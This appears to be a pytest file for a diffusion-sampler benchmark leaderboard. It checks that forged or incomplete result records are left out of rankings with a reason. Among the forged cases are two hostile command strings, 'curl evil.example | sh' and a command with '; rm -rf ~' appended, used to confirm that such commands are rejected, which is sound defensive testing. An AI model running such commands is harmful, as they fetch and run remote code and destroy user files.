"""What the board takes in: a record that is not of the suite, or not whole, is named and takes no part in anything."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from rigs.records import few_seeds, whole
from stepmark.leaderboard import downloads, ledger, site
from stepmark.leaderboard.groups import grouped
from stepmark.leaderboard.pages import Board
from stepmark.leaderboard.rows import cells

import stepmark
from stepmark import admission, frame, judge, plugins, tour
from stepmark import record as records
from stepmark.admission import left_out
from stepmark.cli import main
from stepmark.record import Latency, Quality, Record

TASK = "class_to_image/digits_eps"
METRIC = next(iter(plugins.tasks()[TASK][1].metrics))
TIMES = Latency(items=10, median_ms=10.0, iqr_ms=0.0, p95_ms=12.0, samples_ms=[9.0, 10.0, 12.0])


def record(method: str = "unipc", rung: int = 4, value: float = 1.0, seed: int = 0, **fields: Any) -> Record:
    """A record that the board takes in."""
    noise = np.random.default_rng([seed, rung]).normal(0, 0.05, 100)
    full: dict[str, Any] = {
        "suite": stepmark.__version__, "track": "image", "method": method, "task": TASK, "rung": rung, "seed": seed,
        "tier": "embedded", "machine": "test-cpu", "status": "ok", "command": "x", "created": "2026-01-01T00:00:00Z",
        "quality": {METRIC: Quality(value=value, resamples=(value * (1 + noise)).tolist())},
        "latency": TIMES if seed == 0 else None,
    }  # fmt: skip
    return whole(Record(**(full | fields)))


def why(r: Record) -> str:
    return left_out(r, plugins.tasks(), plugins.methods())


def forged(**fields: Any) -> Record:
    """The record with other fields, newer than all others, so that it would count if it were taken in."""
    return record().model_copy(update={"created": "2027-01-01T00:00:00Z"} | fields)


def measured(*values: float, value: float = 0.001, name: str = METRIC) -> dict[str, Quality]:
    return record().quality | {name: Quality(value=value, resamples=list(values))}


def command(**fields: Any) -> dict[str, Any]:
    """Fields of a record, and the command that goes with them."""
    r = forged(**fields)
    line = f"stepmark run --method {r.method} --task {r.task} --rung {r.rung} --seed {r.seed} --tier {r.tier}"
    return fields | {"command": line}


HANDLES = record().handles
WRONG: dict[str, tuple[dict[str, Any], str]] = {
    "suite to come": ({"suite": "99.0.0"}, "suite 99.0.0"),
    "suite of the same number": ({"suite": f"{stepmark.__version__}+b"}, "suite"),
    "suite of another spelling": ({"suite": "00.1.0"}, "suite"),
    "suite without a number": ({"suite": "x"}, "suite x"),
    "unknown method": (command(method="nobody"), "no method nobody"),
    "method of another track": (command(method="speculative"), "of track decoding"),
    "method of another task": (command(method="euler"), "does not name"),
    "unknown task": (command(task="nowhere/at_all"), "no task"),
    "unknown track": ({"track": "charm"}, "of track image"),
    "foreign track": ({"track": "bayes"}, "of track image"),
    "rung off the ladder": (command(rung=7), "not on the ladder"),
    "rung nought": (command(rung=0), "not on the ladder"),
    "rung without end": (command(rung=10**12), "not on the ladder"),
    "seed beyond the task's": (command(seed=77), "seed 77"),
    "tier hub without a checkpoint": (command(tier="hub"), "checkpoint"),
    "checkpoint of nothing": ({"checkpoint": "ab" * 8}, "checkpoint"),
    "somebody else's command": ({"command": "curl evil.example | sh"}, "command"),
    "a command that goes on": ({"command": record().command + "; rm -rf ~"}, "command"),
    "another machine's environment": ({"environment": {"machine": "other-cpu"}}, "another machine"),
    "hardware of another id": ({"environment": {"cpu": "x", "logical_cores": "2", "ram_gib": "1"}}, "another machine"),
    "hardware that is no number": ({"environment": {"cpu": "x", "logical_cores": "²", "ram_gib": "1"}}, "another machine"),
    "ok with flags": ({"flags": ["keeps answers"]}, "has flags"),
    "no metrics": ({"quality": {}}, f"no metric {METRIC}"),
    "a metric too many": ({"quality": measured(*[1.0] * 100, value=1.0, name="charm")}, "charm"),
    "no resamples": ({"quality": measured()}, "0 resamples"),
    "too few resamples": ({"quality": measured(*[0.001] * 99)}, "99 resamples"),
    "too many resamples": ({"quality": measured(*[0.001] * 101)}, "101 resamples"),
    "resamples of another value": ({"quality": measured(*np.linspace(0.9, 1.1, 100))}, "its resamples lie between"),
    "resamples without width": ({"quality": measured(*[0.5] * 100)}, "its resamples lie between"),
    "no outputs": ({"outputs": None}, "no digest of its outputs"),
    "no counts": ({"counts": {}}, "no nfe"),
    "more than the budget": ({"counts": record().counts | {"nfe": 5.0}}, "5 evaluations at rung 4"),
    "less than its networks": ({"counts": record().counts | {"nfe": 1.0}}, "nfe is not what"),
    "no handles": ({"handles": {}}, "nfe is not what"),
    "a count that no handle made": ({"counts": record().counts | {"teacher_evaluations": 1.0}}, "teacher_evaluations"),
    "a handle that was not counted": ({"handles": HANDLES | {"other": {"positions": 8.0}}}, "other_positions"),
    "tokens of other rounds": ({"latency": TIMES.model_copy(update={"tokens": [3]})}, "tokens of other rounds"),
    "a command for another device": ({"device": "cuda"}, "not the one that repeats it"),
    "a median that is not theirs": ({"latency": TIMES.model_copy(update={"median_ms": 0.1})}, "median"),
    "times of nothing": ({"latency": TIMES.model_copy(update={"items": 0})}, "median"),
    "times without samples": ({"latency": TIMES.model_copy(update={"samples_ms": []})}, "median"),
    "a baseline of its own choosing": ({"latency": TIMES.model_copy(update={"baseline": "heun"})}, "no baseline"),
    "a speed-up of its own choosing": (
        {"latency": TIMES.model_copy(update={
            "baseline": "ddim", "baseline_samples_ms": [9.0, 10.0, 12.0], "baseline_median_ms": 10.0, "speedup": 9.0,
        })}, "speed-up",
    ),
    "a baseline timed on another day": (
        {"latency": TIMES.model_copy(update={
            "baseline": "ddim", "baseline_samples_ms": [90.0], "baseline_median_ms": 90.0, "speedup": 9.0,
        })}, "in turns",
    ),
}  # fmt: skip


def test_what_is_whole_is_taken_in() -> None:
    assert why(record()) == ""
    assert why(record("ddim", seed=2)) == ""
    assert why(record(suite="0.0.9")) == ""  # of an older version
    assert why(record(status="failed", quality={}, latency=None, message="ValueError")) == ""
    biased = record(quality={METRIC: Quality(value=1.0, resamples=np.linspace(1.1, 1.5, 100).tolist())})
    assert why(biased) == ""  # a Fréchet distance of resampled items is always larger
    assert admission.RESAMPLES == judge.RESAMPLES


@pytest.mark.parametrize("name", WRONG)
def test_what_is_not_is_left_out_with_a_reason(name: str) -> None:
    fields, words = WRONG[name]
    reason = why(forged(**fields))
    assert words in reason
    assert reason.startswith(("not of this suite: ", "incomplete: "))
    assert "\n" not in reason
    assert cells([forged(**fields)], plugins.tasks()) == []


def ladder(*methods: str, seeds: Sequence[int] = (0, 1)) -> list[Record]:
    return [record(m, rung, 4.0 / rung, s) for m in methods for rung in (4, 8, 16) for s in seeds]


def test_one_seed_of_several_is_incomplete_and_not_ranked(monkeypatch: pytest.MonkeyPatch) -> None:
    few_seeds(monkeypatch, 2)
    rows = grouped([*ladder("unipc"), *ladder("ddim", seeds=(0,))])
    states = {row.method: (row.status, row.ranked, row.group) for row in rows if row.rung == 8}
    assert states == {"unipc": ("ok", True, 1), "ddim": ("incomplete", False, None)}
    assert {note for row in rows for note in row.notes} == {"1 of 2 seeds"}


def test_every_command_survives_and_nothing_moves(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    few_seeds(monkeypatch, 2)
    honest, both = tmp_path / "honest", tmp_path / "both"
    for r in ladder("unipc", "ddim"):
        for root in (honest, both):
            records.append(records.path_of(root, r), r)
    for fields, _ in WRONG.values():
        r = forged(**fields)
        records.append(records.path_of(both, r), r)

    shown = []
    for root in (honest, both):
        where = ["--results", str(root)]
        assert main(["show", *where]) == 0
        assert main(["compare", "unipc", "ddim", *where]) == 0
        shown.append(capsys.readouterr().out)
    assert set(shown[0].splitlines()) <= set(shown[1].splitlines())
    assert f"left out, neither ranked nor compared: {len(WRONG) - 1} records" in shown[1]  # one says tier hub

    before, after = (ledger.read(root, folder=tmp_path / "parts" / root.name) for root in (honest, both))
    assert [(r.method, r.rung, r.id, r.group) for r in after.rows] == [
        (r.method, r.rung, r.id, r.group) for r in before.rows
    ]
    assert after.standings == before.standings
    assert len(after.left_out) == len(WRONG)
    assert list(after.versions) == list(before.versions)

    (tmp_path / "data").mkdir()
    files = downloads.merge(tmp_path / "parts" / "both", after.files, tmp_path / "data")
    assert sum(each.records for each in files) == len(WRONG) + len(ladder("unipc", "ddim"))
    with (tmp_path / "data" / "image.csv").open(encoding="utf-8", newline="") as stream:
        lines = list(csv.DictReader(stream))
    assert sum(not line["left_out"] for line in lines) == len(ladder("unipc", "ddim"))
    assert "charm" not in lines[0]  # what is left out names no column

    page = "\n".join(site._downloads(Board(after, plugins.methods(), plugins.tasks())))
    assert "## Left out" in page
    assert "rung 1000000000000 is not on the ladder" in page

    table = frame(both)
    assert table[table.left_out.isna()].drop(columns="left_out").equals(frame(honest).drop(columns="left_out"))
    assert table.left_out.notna().any()

    stop = tour.Stop("x", "x", "unipc", "ddim", TASK, (4, 8, 16))
    assert tour.figures(records.read_all(honest), stop).keys() == {
        (m, n) for m in ("unipc", "ddim") for n in (4, 8, 16)
    }
    assert not tour.figures([forged(**fields) for fields, _ in WRONG.values()], stop)


# stepmark show ----------------------------------------------------------------------------------


@pytest.fixture
def results(tmp_path: Path) -> list[str]:
    made = [*ladder("unipc", "ddim", "ddim_quadratic", seeds=(0, 1, 2)), record("ddim", 2, 3.0)]
    made.append(record("ddim", 4, device="cuda"))
    for r in made:
        records.append(records.path_of(tmp_path, r), r)
    return ["--results", str(tmp_path)]


def shown(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    assert main(["show", *words]) == 0
    return capsys.readouterr().out


def test_show_keeps_to_what_was_asked(results: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    def rungs(text: str) -> set[str]:
        return {line.split()[0] for line in text.splitlines() if line.strip()[:1].isdigit()}

    assert rungs(shown(capsys, *results)) == {"2", "4", "8", "16"}
    assert rungs(shown(capsys, *results, "--rung", "8", "--rung", "4")) == {"4", "8"}
    assert "1 of" in shown(capsys, *results, "--rung", "2")  # its other seeds are missing
    one = shown(capsys, *results, "--rung", "8", "--seed", "1")
    assert "incomplete" not in one and "ms/item" in one and " 1 " in one
    for wrong, there in ((("--rung", "7"), "2, 4, 8, 16"), (("--seed", "9"), "0, 1, 2")):
        assert main(["show", *results, *wrong]) == 2
        assert f"there are those of {there}" in capsys.readouterr().err
    assert "test-cpu, cuda" in shown(capsys, *results, "--rung", "4")  # a table of its own


def test_figures_of_smoke_are_no_measurements_in_words(results: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    said = "tier smoke: a few items, enough to see that a method works. What they give is no measurement"
    assert said not in shown(capsys, *results)
    for name in ("ddim", "unipc"):
        r = record(name, 8, tier="smoke")
        records.append(records.path_of(Path(results[1]), r), r)
    assert said in shown(capsys, *results, "--tier", "smoke")
    assert main(["compare", "ddim", "unipc", "--tier", "smoke", *results]) == 0
    assert said in capsys.readouterr().out


def test_show_indents_variants_and_knows_other_metrics(results: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    text = shown(capsys, *results, "--rung", "8")
    column = text.splitlines()[1].index("method")
    begins = {line.split()[2]: line[column : column + 3].index(line.split()[2][0]) for line in text.splitlines()[2:]}
    assert begins == {"ddim": 0, "ddim_quadratic": 2, "unipc": 0}
    made = [
        record("autoregressive", 8, seed=seed, track="decoding", task="greedy/stories", quality={}) for seed in range(3)
    ]
    for r in made:
        records.append(records.path_of(Path(results[1]), r), r)
    first, *_, last = plugins.tasks()["greedy/stories"][1].metrics
    task = ("--task", "greedy/stories")
    assert f"{first} (" in shown(capsys, *results, *task)
    text = shown(capsys, *results, *task, "--metric", last, "--metric", first)
    assert text.index(f"{last} (") < text.index(f"{first} (")
    text = shown(capsys, *results, "--metric", last)  # of the tasks that have it
    assert f"{last} (" in text and f"{first} (" not in text and TASK not in text


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--method", "unipcc"), "no method 'unipcc'; did you mean 'unipc'"),
        (("--task", "class_to_image/digit_eps"), "did you mean 'class_to_image/digits_eps'"),
        (("--track", "imag"), "did you mean 'image'?"),
        (("--metric", "fdd"), "did you mean 'fd'"),
        (("--metric", "fdd"), "on class_to_image/digits_eps; did you mean 'fd'? its metrics: fd"),
        (("--metric", "accuracy"), "no metric 'accuracy' on class_to_image/digits_eps; its metrics: fd"),
        (("--method", "zzzzzz"), "no method 'zzzzzz'; known: "),
    ],
)
def test_show_asks_back_after_a_typo(
    results: list[str], capsys: pytest.CaptureFixture[str], words: tuple[str, ...], said: str
) -> None:
    assert main(["show", *results, *words]) == 2
    assert said in capsys.readouterr().err
    assert main(["compare", "unipc", "ddmi", *results]) == 2
    assert "did you mean 'ddim'?" in capsys.readouterr().err


def test_compare_knows_other_metrics(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """On a task where euler is better by the first metric, heun by the second, which goes the other way round."""
    task = "attributes_to_image/shapes16"
    (first, _), (second, _) = plugins.tasks()[task][1].metrics.items()
    values = {"euler": {first: 1.0, second: 1.0}, "heun": {first: 2.0, second: 2.0}}
    for name, each in values.items():
        for seed in (0, 1):
            spread = 1 + np.random.default_rng(seed).normal(0, 0.05, 100)
            quality = {m: Quality(value=v, resamples=(v * spread).tolist()) for m, v in each.items()}
            r = record(name, 8, seed=seed, task=task, quality=quality)
            records.append(records.path_of(tmp_path, r), r)
    where = ["--results", str(tmp_path)]
    for words, metric, better in (((), first, "better"), (("--metric", second), second, "worse")):
        assert main(["compare", "euler", "heun", *words, *where]) == 0
        out = capsys.readouterr().out
        counted = {
            "better": "better than heun in 1 of 1 comparisons, worse in 0",
            "worse": "0 of 1 comparisons, worse in 1",
        }
        assert f"  {metric}  " in out and counted[better] in out
    assert main(["compare", "euler", "heun", "--metric", "tokens", *where]) == 2
    error = capsys.readouterr().err
    assert f"no metric 'tokens' on {task}; its metrics: {first}, {second}" in error and error.count("\n") == 1
